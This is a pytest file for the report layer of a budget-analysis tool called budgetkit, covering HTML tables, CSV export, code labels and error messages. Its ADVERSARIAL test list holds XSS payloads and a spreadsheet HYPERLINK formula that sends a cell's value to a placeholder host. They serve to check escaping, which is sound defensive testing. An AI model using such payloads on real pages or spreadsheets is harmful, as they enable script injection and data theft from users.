"""The report layer: tables for reading, code words, failures in plain words, pages (budgetkit.report)."""

from __future__ import annotations

import base64
import html
import io
import re
from pathlib import Path

import nbformat
import pandas as pd
import pytest

from budgetkit.analyse.compare import strip_year
from budgetkit.model.csvsafe import escape_cell, unescape_cell
from budgetkit.report.codes import code_label
from budgetkit.report.display import ReadingTable, dictionary_table, format_number, format_value
from budgetkit.report.failures import describe_error, relativise
from budgetkit.report.render import INPUTS_SHOWN, Banner, Markup, Nav, NavItem, Run, notebook_body, render_page
from budgetkit.report.site import project_slug

ADVERSARIAL = [
    pytest.param("<img src=x onerror=alert(1)>", id="html-tag"),
    pytest.param('"><script>alert("职工")</script>', id="attribute-break-out"),
    pytest.param("困难职工 & 劳模 &amp; 家属", id="ampersands"),
    pytest.param("２０２５年ＡＢＣ（全角）", id="full-width"),
    pytest.param("⼯会 ⼾ 戶", id="kangxi-radicals"),
    pytest.param("第一行\n第二行", id="newline"),
    pytest.param("职工" * 600, id="1200-characters"),
    pytest.param('=HYPERLINK("http://x.invalid/?d="&A1,"点击")', id="formula-injection"),
]


@pytest.mark.parametrize(("value", "expected"), [
    pytest.param(200.0, "200", id="count-as-float"),
    pytest.param(2225.0, "2,225", id="thousands"),
    pytest.param(886.86, "886.86", id="two-decimals"),
    pytest.param(0.0136, "0.0136", id="small-wan"),
    pytest.param(-0.5, "-0.5", id="negative"),
    pytest.param(1e-9, "0", id="tiny"),
])
def test_format_number(value, expected):
    assert format_number(value) == expected


@pytest.mark.parametrize(("value", "dtype", "unit", "expected"), [
    pytest.param(float("nan"), "float", "万元", "", id="nan-is-blank"),
    pytest.param(None, "str", "", "", id="none-is-blank"),
    pytest.param(pd.NA, "int", "", "", id="na-is-blank"),
    pytest.param(pd.NaT, "date", "", "", id="nat-is-blank"),
    pytest.param(0.006766, "float", "%", "0.0%", id="percent-one-decimal"),
    pytest.param(12.345, "float", "%", "12.3%", id="percent-rounds"),
    pytest.param(14.0, "int", "个", "14", id="int-from-float"),
    pytest.param(pd.Timestamp("2025-12-31"), "date", "", "2025-12-31", id="date"),
    pytest.param("≥90％", "str", "", "≥90％", id="text-as-is"),
])
def test_format_value(value, dtype, unit, expected):
    assert format_value(value, dtype, unit) == expected


@pytest.mark.parametrize("text", ADVERSARIAL)
def test_tables_escape_and_never_cut_text(text):
    frame = pd.DataFrame({"project": [text], "total_wan": [1.5], "goal": [text]})
    table = ReadingTable(frame, "projects", caption=text, name=text, links={"project": [f"p/{text}.html"]})
    page = table.to_html()
    assert html.escape(text) in page
    assert f'href="{html.escape(f"p/{text}.html")}"' in page
    rest = page.replace(html.escape(text), "")
    assert "<img" not in rest and "<script" not in rest and "onerror" not in rest
    assert "…" not in page and "rows ×" not in page


@pytest.mark.parametrize("text", ADVERSARIAL)
def test_csv_download_holds_the_data(text):
    frame = pd.DataFrame({"project": [text, "乙"], "total_wan": [886.8, float("nan")], "indicator_count": [14, 3]})
    page = ReadingTable(frame, "projects", name="t").to_html()
    data = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page).group(1)
    raw = base64.b64decode(data).decode("utf-8")
    assert raw.startswith("\ufeff"), "a BOM, so that Excel reads the Chinese"
    back = pd.read_csv(io.StringIO(raw[1:]))
    assert back.columns.tolist() == ["项目名称", "项目总额（万元）", "三级指标数（个）"]
    assert unescape_cell(back.iloc[0, 0]) == text and back.iloc[0, 1] == 886.8 and pd.isna(back.iloc[1, 1])
    assert back.iloc[0, 0] == escape_cell(text), "the one rule of budgetkit.model.csvsafe"


def test_table_has_no_index_column_and_bilingual_headers():
    frame = pd.DataFrame({"status": ["closes", "does_not_close", "新状态"], "gap_pct": [0.006766, -12.34, None]},
                         index=[7, 8, 9])
    table = ReadingTable(frame, "costs")
    assert table.display_frame().values.tolist() == [
        ["吻合 closes", "0.0%"], ["不吻合 does not close", "-12.3%"], ["新状态", ""]]
    page = table.to_html()
    assert ">7<" not in page and "测算结论<span class=\"en\">status</span>" in page


def test_long_tables_are_searchable_short_ones_not():
    long = ReadingTable(pd.DataFrame({"project": [f"项目{i}" for i in range(40)]}), "projects").to_html()
    short = ReadingTable(pd.DataFrame({"project": ["甲"]}), "projects").to_html()
    assert "bk-searchable" in long and long.count("<tr>") == 41
    assert "bk-searchable" not in short and "bk-sortable" in short


def test_new_dictionary_columns_appear_without_code_changes():
    frame = pd.DataFrame({"project_id": ["a"], "project": ["甲"], "value": ["≥1"], "value_long_term": ["≥5"],
                          "undeclared": ["x"]})
    table = dictionary_table(frame, "indicators", "", "t")
    assert table.frame.columns.tolist() == ["project", "value", "value_long_term"]
    assert "中长期指标值" in table.to_html()


@pytest.mark.parametrize(("table", "column", "code", "expected"), [
    pytest.param("costs", "status", "not_priceable", "无法测算 cannot be priced", id="cost-status"),
    pytest.param("audit", "rule", "deadline_outside_year", "时限超出预算年度 deadline_outside_year", id="rule"),
    pytest.param("audit", "severity", "warning", "警告 warning", id="severity"),
    pytest.param("indicators", "confidence", "low", "低 low", id="confidence"),
    pytest.param("indicators", "kind", "qualitative", "定性 qualitative", id="kind"),
    pytest.param("run", "status", "failed", "失败 failed", id="run"),
    pytest.param("audit", "rule", "未知规则", "未知规则", id="unknown-code"),
])
def test_code_labels(table, column, code, expected):
    assert code_label(table, column, code) == expected


@pytest.mark.parametrize(("name", "expected"), [
    pytest.param("2024年监测费用", "监测费用", id="year-prefix"),
    pytest.param("2025年度职工疗休养", "职工疗休养", id="year-du"),
    pytest.param("职工疗休养（2025年）", "职工疗休养", id="year-in-brackets"),
    pytest.param("2021-2025年规划实施", "规划实施", id="year-range"),
    pytest.param("培训200人次", "培训200人次", id="number-kept"),
    pytest.param("2025", "2025", id="only-a-year"),
    pytest.param("基本支出项目", "基本支出项目", id="no-year"),
])
def test_strip_year(name, expected):
    assert strip_year(name) == expected


@pytest.mark.parametrize(("text", "expected"), [
    pytest.param("/srv/bk/data/raw/2025/x.txt:3: bad", "data/raw/2025/x.txt:3: bad", id="root"),
    pytest.param("/srv/bk/.budgetkit/stage-2025-9/data/raw/2025/x.txt: bad", "data/raw/2025/x.txt: bad",
                 id="staging-root-first"),
    pytest.param("File /usr/lib/python3/site.py, line 4", "File site.py, line 4", id="other-absolute"),
    pytest.param("平均3250元/户，人均6000元/人/年", "平均3250元/户，人均6000元/人/年", id="units-untouched"),
    pytest.param(r"at C:\Users\研究员\data\x.txt", "at x.txt", id="windows"),
    pytest.param("'/home/研究员/报告.txt'", "'报告.txt'", id="quoted-chinese-path"),
])
def test_relativise(text, expected):
    assert relativise(text, [Path("/srv/bk"), Path("/srv/bk/.budgetkit/stage-2025-9")]) == expected


def test_unexpected_errors_are_called_bugs_and_budgetkit_errors_are_not():
    assert "unexpected" in describe_error("ZeroDivisionError", "division by zero", [])
    assert "unexpected" not in describe_error("NoTableError", "x.txt: no performance-target table found", [])
    assert "unexpected" not in describe_error("BuildLockedError", "another build", [])


@pytest.mark.parametrize("text", ADVERSARIAL)
def test_pages_escape_everything_they_are_given(text):
    page = render_page(title=text, subtitle=text, body=Markup("<p>正文</p>"),
                       nav=Nav(index="index.html", pages=[NavItem(text, "a.html")], years=[NavItem(text)]),
                       banners=[Banner("bad", text, [text], {"href": text, "label": text})])
    stripped = page.split("<style>")[0] + page.split("</style>")[1].split("<script>")[0]
    assert "<img" not in stripped and "<script>alert" not in stripped
    assert str(Markup.escape(text))[:50] in page
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", page)


@pytest.mark.parametrize("n", [pytest.param(3, id="a-few-files-all-named"),
                               pytest.param(INPUTS_SHOWN + 980, id="a-province-year-counted")])
def test_a_page_names_its_inputs_and_counts_the_rest(n):
    inputs = [{"file": f"data/raw/2025/第{k:04d}号.txt", "bytes": 2048, "sha256": "ab" * 32} for k in range(n)]
    page = render_page(title="项目", body=Markup("<p>正文</p>"), nav=Nav(index="index.html"),
                       run=Run(time="2026-12-02", status="ok", inputs=inputs))
    named = min(n, INPUTS_SHOWN)
    assert page.count("sha256 abababab") == named
    assert ("另有 980 个文件" in page) == (n > INPUTS_SHOWN)
    if n > INPUTS_SHOWN:
        assert "1.9 MB" in page and "第0999号" not in page


def test_a_failed_cell_is_told_in_plain_words(tmp_path):
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# 01 解析 Clean\n\n说明"),
                nbformat.v4.new_code_cell("steps.clean_year(params)")]
    nb.cells[1].outputs = [nbformat.v4.new_output(
        "error", ename="InputError", evalue=f"{tmp_path}/data/raw/2025/坏.txt:1: no 项目名称 line: '<b>坏</b>'",
        traceback=["\x1b[0;31mTraceback (most recent call last)\x1b[0m", f"File {tmp_path}/src/x.py:3"])]
    path = tmp_path / "01_clean.ipynb"
    nbformat.write(nb, path)
    body, failures, title = notebook_body(path, [tmp_path])
    assert title == "01 解析 Clean" and "01 解析 Clean" not in body, "the heading becomes the page title"
    assert failures == ["InputError: data/raw/2025/坏.txt:1: no 项目名称 line: '<b>坏</b>'"]
    assert "&lt;b&gt;坏&lt;/b&gt;" in body and "Traceback" not in body and str(tmp_path) not in body
    assert "\x1b" not in body


@pytest.mark.parametrize(("project_id", "expected"), [
    pytest.param("nx-2025#01", "nx-2025-01", id="ascii"),
    pytest.param("宁夏#01", "p-01-", id="chinese-stem"),
    pytest.param("a b/c#02", "p-02-", id="unsafe-characters"),
])
def test_project_slugs_are_safe_file_names(project_id, expected):
    slug = project_slug(project_id)
    assert slug.startswith(expected) and re.fullmatch(r"[A-Za-z0-9._-]+", slug)
    assert project_slug(project_id) == slug, "stable"


def test_build_exit_status_is_1_when_something_was_skipped(monkeypatch, capsys):
    from budgetkit.build import build as build_module
    from budgetkit.build.build import BuildResult
    from budgetkit.cli import main

    results = [BuildResult("2025", notebooks={"01_clean": 1.0},
                           skipped=[{"source_file": "坏.pdf", "error": "InputError", "reason": "damaged"}])]
    monkeypatch.setattr(build_module, "build", lambda **kwargs: results)
    assert main(["-q", "build"]) == 1
    assert "1 file(s) skipped" in capsys.readouterr().out
    results[0].skipped = []
    assert main(["-q", "build"]) == 0
